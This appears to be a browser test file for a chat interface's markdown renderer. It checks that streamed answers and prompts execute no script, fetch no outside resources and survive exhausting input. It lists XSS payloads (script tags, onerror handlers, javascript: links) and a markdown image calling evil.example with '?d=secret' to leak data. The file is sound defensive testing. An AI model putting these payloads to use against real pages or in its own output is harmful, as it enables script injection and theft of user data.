import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../support/chromium.ts'
import { openStage, type Stage, type Visitor } from './stage.ts'

let stage: Stage
let visitor: Visitor

beforeAll(async () => {
  stage = await openStage(await launchBrowser())
})
afterAll(() => stage.close())
afterEach(() => visitor.leave())

const HOSTILE = [
  '<script>window.broken = true</script>', '<img src=x onerror="window.broken = true">', '<svg onload="window.broken = true">',
  '<iframe srcdoc="<script>parent.broken = true</script>"></iframe>', '![x](https://evil.example/?d=secret)',
  '![y][ref]', '[click](javascript:window.broken=true)', '[click](data:text/html,<script>1</script>)', '[good](https://example.org/)',
  '[ref]: https://evil.example/ref',
].join('\n\n') // biome-ignore format: one a line

test('runs and fetches nothing of an answer or a prompt, whole or in pieces', async () => {
  visitor = await stage.visitor()
  await visitor.enter()
  stage.model.script([{ text: [...HOSTILE], tokensPerSecond: 600 }])
  await visitor.ask(HOSTILE)
  await visitor.page.waitForLoadState('networkidle')
  expect(await visitor.page.evaluate(() => 'broken' in window)).toBe(false)
  expect(visitor.requests.filter((address) => new URL(address).host !== new URL(stage.server.url).host)).toEqual([])
  const links = await visitor.answers
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute('href'), link.getAttribute('rel')]))
  expect(links.map(([, href]) => href)).toEqual(['https://evil.example/?d=secret', 'https://evil.example/ref', 'https://example.org/'])
  expect(new Set(links.map(([, , rel]) => rel))).toEqual(new Set(['noopener noreferrer nofollow']))
  expect(await visitor.answers.getByText('<script>').count()).toBeGreaterThan(0)
  expect(visitor.faults).toEqual([])
})

test('stays at work under an answer made to exhaust it', async () => {
  visitor = await stage.visitor()
  await visitor.enter()
  stage.model.script([
    { text: ['> '.repeat(3_000), '\n\n', '['.repeat(20_000), '\n\n', '| a | b |\n|---|---|\n| 1 | 2 |\n\n'.repeat(1_000)] },
  ])
  await visitor.ask('Exhaust yourself')
  await expect.poll(() => visitor.answers.locator('table').count(), { timeout: 20_000 }).toBe(1_000)
  await visitor.ask('Still there?')
})
